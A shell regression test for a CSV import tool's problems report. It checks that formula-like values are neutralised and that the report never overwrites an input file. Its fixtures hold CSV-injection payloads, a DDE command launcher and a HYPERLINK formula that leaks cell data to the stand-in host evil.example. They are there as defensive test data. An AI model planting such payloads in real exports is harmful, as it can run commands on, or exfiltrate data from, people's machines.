# Defect 9: CSV exports could carry formulas. Values starting with =, +, -, @, tab or CR
# were written as they are into the import's list of problems (and the window's table
# export, covered by tst_csvwriter); a spreadsheet may run them. They are neutralised the
# way OWASP recommends (a leading ' and quotes), while plain numbers stay numbers.
app=$1
source "$(dirname "$0")/lib.sh"

cat >"$work/customers.csv" <<'CSV'
customer_id,name,acquired_on,stage
C1,Acme,2025-01-10,@SUM(A1:A9)
C2,Beta,-4.99,repeat
C3,Gamma,2025-01-10,+cmd|' /C calc'!A0
CSV
cat >"$work/orders.csv" <<'CSV'
order_id,customer_id,ordered_on,amount
O1,C1,2025-02-01,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"
O2,C1,2025-02-01,"	=1+1"
CSV
expect_fail "an import with formula-like values" "$app" import --db "$work/c.sqlite" --problems "$work/problems.csv" "$work/customers.csv" "$work/orders.csv"
[ -s "$work/problems.csv" ] || fail "no list of problems written"
[ ! -e "$work/c.sqlite" ] || fail "the failed import left a database"
python3 - "$work/problems.csv" <<'PY' || fail "the list of problems carries a formula"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
assert rows[0] == ["severity", "file", "line", "column", "value", "message"], rows[0]
values = {r[4] for r in rows[1:]}
for r in rows[1:]:
    for cell in r:
        assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not cell.replace("-", "", 1).replace(".", "", 1).isdigit()), \
            "a cell a spreadsheet would run: %r in %r" % (cell, r)
assert "'@SUM(A1:A9)" in values, values
assert "'+cmd|' /C calc'!A0" in values, values
assert any(v.startswith("'=HYPERLINK(") for v in values), values
assert any("=1+1" in v for v in values), values  # the tab shown as ␉ or quoted
assert "-4.99" in values, values  # a number stays a number
PY
ok "the list of problems neutralises =, +, -, @ and tab, and keeps -4.99 a number"

expect_fail "--problems over an input" "$app" import --db "$work/c.sqlite" --problems "$work/orders.csv" "$work/orders.csv"
expect_in "$work/err" "orders.csv" "--problems over an input"
grep -q "HYPERLINK" "$work/orders.csv" || fail "the refused --problems wrote over orders.csv"
ok "--problems never writes over an input file"
echo "$passed passed, 0 failed"
